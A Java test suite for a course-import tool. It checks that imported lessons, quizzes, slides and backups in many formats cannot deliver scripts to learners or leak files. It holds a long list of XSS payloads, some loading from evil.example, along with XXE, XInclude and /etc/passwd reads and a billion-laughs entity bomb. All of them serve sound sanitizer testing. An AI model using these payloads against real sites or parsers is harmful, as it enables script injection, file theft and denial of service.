package org.collegium.courses;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.collegium.courses.ImportOutcome.Accepted;
import org.collegium.courses.ImportOutcome.Refused;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Scripts and traps in each place of each format that ends up before a learner, or is read on the way there. */
@Tag("attack")
class HostileCoursesTest {

    /** What browsers have run, or fetched unasked, wherever HTML of others was let through. */
    static final List<String> VECTORS = List.of(
            "<script>run(1)</script>",
            "<scr<script>ipt>run(1)</scr</script>ipt>",
            "<script src='//evil.example/x.js'></script >",
            "<script/x>run(1)</script>",
            "<img src=x onerror=run(1)>",
            "<img/src='x'/onerror='run(1)'>",
            "<img src='x' onload\n=\nrun(1)>",
            "<svg onload=run(1)></svg>",
            "<svg><script href='data:text/javascript,run(1)'/></svg>",
            "<svg><a xlink:href='javascript:run(1)'><text y='9'>t</text></a></svg>",
            "<svg><animate attributeName=href values='javascript:run(1)'/></svg>",
            "<svg><foreignObject><iframe src='javascript:run(1)'></iframe></foreignObject></svg>",
            "<svg><use href='data:image/svg+xml,x#y'/></svg>",
            "<math><maction actiontype='statusline' xlink:href='javascript:run(1)'>m</maction></math>",
            "<math><mi><mglyph><style></math><img src=x onerror=run(1)></style></mglyph></mi></math>",
            "<iframe src='javascript:run(1)'></iframe>",
            "<iframe srcdoc='&lt;script&gt;run(1)&lt;/script&gt;'></iframe>",
            "<object data='data:text/html,run'><param name=x value=y></object>",
            "<embed src='//evil.example/x.swf' allowscriptaccess=always>",
            "<a href='javascript:run(1)'>a</a>",
            "<a href='java&#10;script:run(1)'>a</a>",
            "<a href='&#1;javascript:run(1)'>a</a>",
            "<a href='feed:javascript:run(1)'>a</a>",
            "<a href='data:text/html;base64,eA=='>a</a>",
            "<a href='vbscript:run(1)'>a</a>",
            "<area href='javascript:run(1)'>",
            "<form action='//evil.example'><input name=p autofocus onfocus=run(1)><button formaction='javascript:run(1)'>b</button></form>",
            "<isindex action='javascript:run(1)' type=image>",
            "<body onload=run(1)>",
            "<base href='//evil.example/'>",
            "<link rel=import href='//evil.example/'>",
            "<meta http-equiv=refresh content='0;url=javascript:run(1)'>",
            "<style>@import '//evil.example/x.css';</style>",
            "<p style='background:url(javascript:run(1));width:expression(run(1))'>p</p>",
            "<video><source onerror=run(1)></video>",
            "<audio src=x onerror=run(1)></audio>",
            "<video poster='javascript:run(1)'></video>",
            "<details open ontoggle=run(1)>d</details>",
            "<marquee onstart=run(1)>m</marquee>",
            "<xss contenteditable onbeforeinput=run(1) tabindex=1 onfocus=run(1)>x</xss>",
            "<template><script>run(1)</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=run(1)>'>n</p></noscript>",
            "<table background='javascript:run(1)'><tr><td>t</td></tr></table>",
            "<!--[if gte IE 4]><script>run(1)</script><![endif]-->",
            "<![CDATA[<script>run(1)</script>]]>",
            "<title><a title='</title><img src=x onerror=run(1)>'>t</a></title>",
            "<textarea><img title='</textarea><script>run(1)</script>'></textarea>",
            "<div id='outlet' name='location' slot='drawer' is='vaadin-x' part='x'>d</div>",
            "[a](javascript:run(1))",
            "![a](javascript:run(1))",
            "[a]: javascript:run(1)\n\n[a]",
            "<javascript:run(1)>",
            "`<img src=x onerror=run(1)>`{=html}",
            "$\\href{javascript:run(1)}{x}$");

    private static final Set<String> NEVER = Set.of(
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
            "meta",
            "link",
            "template",
            "frame",
            "frameset",
            "applet",
            "textarea",
            "title",
            "marquee",
            "foreignobject");

    @TempDir
    Path folder;

    private interface Place {
        void put(SmallCourses course, String text);
    }

    private static Arguments place(String platform, String name, Place place) {
        return Arguments.of(platform, name, place);
    }

    /** The words of a sample in a file, in their marks, with {@code written} as that file writes them. */
    private static Arguments words(
            String platform,
            String name,
            String file,
            String before,
            String old,
            String after,
            UnaryOperator<String> written) {
        return place(
                platform,
                name,
                (course, text) ->
                        course.replace(file, before + old + after, before + written.apply(text) + " seen" + after));
    }

    /** The value of an attribute, or words that are not shown as such, while others on the page are seen. */
    private static Arguments beside(
            String platform,
            String name,
            String file,
            String before,
            String old,
            String after,
            String shown,
            String words) {
        return place(
                platform,
                name,
                (course, text) -> course.replace(
                                file, before + old + after, before + xml(text).replace("\"", "&quot;") + after)
                        .replace(shown, words, words.replace("Q", "seen")));
    }

    static Stream<Arguments> places() {
        UnaryOperator<String> xml = HostileCoursesTest::xml;
        UnaryOperator<String> twice = text -> xml(xml(text));
        String slide = "ppt/slides/slide1.xml";
        String relations = "ppt/slides/_rels/slide1.xml.rels";
        return Stream.of(
                place(
                        "small",
                        "lesson",
                        (course, text) -> course.write("lessons/welcome.md", "# One\n\n" + text + "\n\nseen\n")),
                place("book", "page", (course, text) -> course.write("intro.md", "# I\n\n" + text + "\n\nseen\n")),
                place(
                        "book",
                        "output of a notebook",
                        (course, text) -> course.write("a_sol_1.ipynb", notebook(text + " seen"))),
                words("book", "quiz", "quiz.md", "", "What?", "", text -> text.replace("\n", " ")),
                place(
                        "repository",
                        "page",
                        (course, text) -> course.write("1-a/README.md", "# A\n\n" + text + "\n\nseen\n")),
                words("repository", "question", "q.json", "", "Q?", "", HostileCoursesTest::json),
                words("deck", "slide", "deck.md", "", "Text", "", text -> text + "\n\n"),
                place(
                        "deck",
                        "words for a picture",
                        (course, text) -> course.replace("deck.md", "Lake](", text.replace("\n", " ") + "](")
                                .replace("deck.md", "Text", "seen")),
                words("carpentries", "solution", "episodes/a.md", "", "Text", "", text -> text + "\n\n"),
                place(
                        "cartridge",
                        "page",
                        (course, text) -> course.write("p.html", "<title>P</title><h1>P</h1>" + text + "<p>seen</p>")),
                words("cartridge", "question", "q.xml", "", "Q?", "", twice),
                place(
                        "cartridge",
                        "question in HTML",
                        (course, text) -> course.replace(
                                "q.xml", "<mattext>Q?", "<mattext texttype=\"text/html\">" + xml(text) + " seen?")),
                place("olx", "page", (course, text) -> course.write("html/h.html", "<p>seen</p>" + text)),
                words("olx", "question", "problem/p.xml", "<p>", "Q?", "</p>", xml),
                words(
                        "moodle",
                        "page",
                        "activities/page_1/page.xml",
                        "",
                        "&lt;p&gt;@@PLUGINFILE@@/x&lt;/p&gt;",
                        "",
                        text -> "&lt;p&gt;seen&lt;/p&gt;" + xml(text)),
                words("moodle", "question", "questions.xml", "", "Q?", "", xml),
                words("slides", "text", slide, "<t>", "Q", "</t>", xml),
                words("slides", "heading", slide, "<t>", "T", "</t>", xml),
                words("slides", "table", slide, "<t>", "C", "</t>", xml),
                beside("slides", "words for a picture", slide, "descr=\"", "D", "\"", slide, "<t>Q</t>"),
                beside("slides", "link", relations, "\"", "https://example.org/", "\"", slide, "<t>Q</t>"),
                beside("slides-rich", "film", relations, "", "https://example.org/film", "", slide, "<t>Q</t>"),
                beside(
                        "slides-rich",
                        "link of a shape",
                        relations,
                        "",
                        "https://example.org/shape",
                        "",
                        slide,
                        "<t>Q</t>"),
                words("odp", "text", "content.xml", ">", "Q", "<", xml),
                words("odp", "heading", "content.xml", "<p>", "T", "<", xml),
                words("odp", "table", "content.xml", "<p>", "C", "<", xml),
                beside("odp", "words for a picture", "content.xml", ">", "D", "<", "content.xml", ">Q<"),
                beside("odp", "link", "content.xml", "", "https://example.org/", "", "content.xml", ">Q<"),
                beside(
                        "odp-rich",
                        "link of a shape",
                        "content.xml",
                        "",
                        "https://example.org/shape",
                        "",
                        "content.xml",
                        ">Q<"),
                place(
                        "odp",
                        "formula",
                        (course, text) -> course.replace("Object 1/content.xml", "<mi>x<", "<mi>" + xml(text) + "<")
                                .replace("content.xml", ">Q<", ">seen<")));
    }

    @ParameterizedTest(name = "{0}, {1}")
    @MethodSource("places")
    void nothingThatRunsReachesLearners(String platform, String name, Place place) {
        int seen = 0;
        for (String vector : VECTORS) {
            SmallCourses course = SampleCourses.write(platform, folder);
            place.put(course, vector);
            if (course.read() instanceof Accepted accepted) {
                for (String html : ImportedTexts.pages(accepted)) {
                    Document page = Jsoup.parse(html);
                    seen += page.text().contains("seen") ? 1 : 0;
                    assertHarmless(vector, page);
                }
            }
        }
        assertThat(seen).as("how often the place was shown").isGreaterThan(VECTORS.size() / 3);
    }

    /** Nothing in the page runs, and nothing leaves it unasked. */
    static void assertHarmless(String vector, Document page) {
        for (Element element : page.body().getAllElements()) {
            assertThat(NEVER).as(vector).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(key)
                        .as(vector)
                        .doesNotStartWith("on")
                        .isNotIn("srcdoc", "formaction", "action", "slot", "is");
                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\s\\p{Cntrl}]", "");
                if (!key.equals("alt")
                        && !key.equals("title")
                        && !key.startsWith("data-")
                        && !key.equals("aria-label")) {
                    assertThat(value).as(vector).doesNotContain("javascript:", "vbscript:", "data:text");
                }
                // A picture of its own kind runs nothing where it is shown as a picture, and does where it is opened.
                if (!element.normalName().equals("img") || !key.equals("src")) {
                    assertThat(value).as(vector).doesNotStartWith("data:");
                }
                if (element.normalName().matches("img|video|audio|source") && !key.equals("alt")) {
                    assertThat(value).as("asked unasked by " + vector).doesNotContain("evil.example");
                }
            }
        }
    }

    private static ImportOutcome readWithin(Duration longest, SmallCourses course) {
        long start = System.nanoTime();
        ImportOutcome outcome = course.read();
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(longest);
        return outcome;
    }

    /** Each file of each format that is read as XML. */
    static Stream<Arguments> xmlFiles() {
        return Stream.of(
                Arguments.of("cartridge", "imsmanifest.xml"),
                Arguments.of("cartridge", "q.xml"),
                Arguments.of("olx", "course.xml"),
                Arguments.of("olx", "vertical/v.xml"),
                Arguments.of("olx", "html/h.xml"),
                Arguments.of("olx", "problem/p.xml"),
                Arguments.of("slides", "ppt/presentation.xml"),
                Arguments.of("slides", "ppt/slides/slide1.xml"),
                Arguments.of("slides", "ppt/_rels/presentation.xml.rels"),
                Arguments.of("slides-rich", "ppt/comments/c.xml"),
                Arguments.of("slides-rich", "ppt/notesSlides/n.xml"),
                Arguments.of("odp", "content.xml"),
                Arguments.of("odp", "styles.xml"),
                Arguments.of("odp", "meta.xml"),
                Arguments.of("odp", "Object 1/content.xml"),
                Arguments.of("moodle", "moodle_backup.xml"),
                Arguments.of("moodle", "sections/section_1/section.xml"),
                Arguments.of("moodle", "activities/page_1/page.xml"),
                Arguments.of("moodle", "activities/quiz_2/quiz.xml"),
                Arguments.of("moodle", "questions.xml"),
                Arguments.of("moodle-rich", "course/course.xml"),
                Arguments.of("moodle-rich", "files.xml"),
                Arguments.of("moodle-rich", "groups.xml"),
                Arguments.of("moodle-rich", "activities/book_3/book.xml"),
                Arguments.of("olx-rich", "video/w.xml"),
                Arguments.of("cartridge-rich", "l.xml"),
                Arguments.of("cartridge-rich", "t.xml"),
                Arguments.of("cartridge-rich", "a.xml"));
    }

    @ParameterizedTest(name = "{0}, {1}")
    @MethodSource("xmlFiles")
    void noEntityIsUnfoldedAndNothingIsFetched(String platform, String file) throws IOException {
        String secret = "what-nobody-but-this-machine-knows";
        Path outside = Files.writeString(folder.resolveSibling(folder.getFileName() + "-secret"), secret);
        try {
            for (String prologue : List.of(
                    "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + outside.toUri() + "\">]>",
                    "<!DOCTYPE a [<!ENTITY % p SYSTEM \"" + outside.toUri() + "\">%p;]>",
                    "<!DOCTYPE a SYSTEM \"" + outside.toUri() + "\">",
                    "<!DOCTYPE a PUBLIC \"-//X//EN\" \"http://127.0.0.1:9/x.dtd\">",
                    laughs())) {
                SmallCourses course = SampleCourses.write(platform, folder);
                String text = Files.readString(folder.resolve(file));
                String inside = text.replaceFirst(">([^<>]*)</", ">&x;$1</");
                course.write(file, "<?xml version=\"1.0\"?>" + prologue + inside);
                ImportOutcome outcome = readWithin(Duration.ofSeconds(5), course);
                assertThat(outcome.report().json())
                        .doesNotContain(secret)
                        .containsPattern("exchange-doctype|-unreadable");
                if (outcome instanceof Accepted accepted) {
                    assertThat(ImportedTexts.pages(accepted))
                            .allSatisfy(page -> assertThat(page).doesNotContain(secret, "haha"));
                }
            }
        } finally {
            Files.delete(outside);
        }
    }

    @ParameterizedTest(name = "{0}, {1}")
    @MethodSource("xmlFiles")
    void xmlThatIncludesOthersOrIsNeverClosedStaysHarmless(String platform, String file) throws IOException {
        for (String text : List.of(
                "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></a>",
                "<?xml-stylesheet type=\"text/xsl\" href=\"file:///etc/passwd\"?><a/>",
                "<a>".repeat(100_000),
                "<a b='" + "x".repeat(1_000_000) + "'/>",
                "<a " + "b".repeat(200_000) + "='1'/>",
                "\uFEFF<a/>")) {
            SmallCourses course = SampleCourses.write(platform, folder);
            course.write(file, text);
            ImportOutcome outcome = readWithin(Duration.ofSeconds(10), course);
            assertThat(outcome.report().json()).doesNotContain("root:");
            assertThat(outcome instanceof Refused).isEqualTo(!outcome.report().importable());
        }
        SmallCourses course = SampleCourses.write(platform, folder);
        Files.write(
                folder.resolve(file),
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a><a/>".getBytes(StandardCharsets.UTF_16));
        assertThat(course.read().report().text()).isNotBlank();
    }

    /** What the fuzzer found, so that it stays mended. */
    @ParameterizedTest
    @ValueSource(strings = {"# A\n\n::: objectives", "::: objectives"})
    void whatOnceBrokeAReaderIsRead(String text) {
        ImportOutcome outcome = SampleCourses.write("carpentries", folder)
                .write("episodes/a.md", text)
                .read();
        assertThat(outcome.report().text()).isNotBlank();
    }

    @Test
    void aPictureWithAScriptIsKeptAsItIsAndNotPartOfAPage() {
        SmallCourses course = SampleCourses.write("book", folder);
        course.write(
                "f.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"run(1)\"><script>run(1)</script></svg>");
        assertThat(course.read()).isInstanceOfSatisfying(Accepted.class, accepted -> {
            assertThat(accepted.manifest().files().get("f.svg"))
                    .extracting(CourseFile::mediaType)
                    .isEqualTo("image/svg+xml");
            assertThat(ImportedTexts.pages(accepted)).noneMatch(page -> page.contains("run(1)"));
        });
    }

    private static String laughs() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY x0 \"haha\">");
        for (int i = 1; i < 10; i++) {
            laughs.append("<!ENTITY x")
                    .append(i)
                    .append(" \"")
                    .append(("&x" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return laughs.append("<!ENTITY x \"&x9;\">]>").toString();
    }

    private static String xml(String text) {
        return text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("'", "&apos;");
    }

    private static String json(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n");
    }

    private static String notebook(String html) {
        return "{\"cells\": [{\"cell_type\": \"markdown\", \"metadata\": {}, \"source\": \"" + json(html)
                + "\"}, {\"cell_type\": \"code\", \"execution_count\": 1, \"metadata\": {}, \"source\": [\"1\\n\"], \"outputs\": ["
                + "{\"output_type\": \"display_data\", \"metadata\": {}, \"data\": {\"text/html\": \"" + json(html)
                + "\", \"image/svg+xml\": \"" + json(html)
                + "\"}}]}], \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}";
    }
}
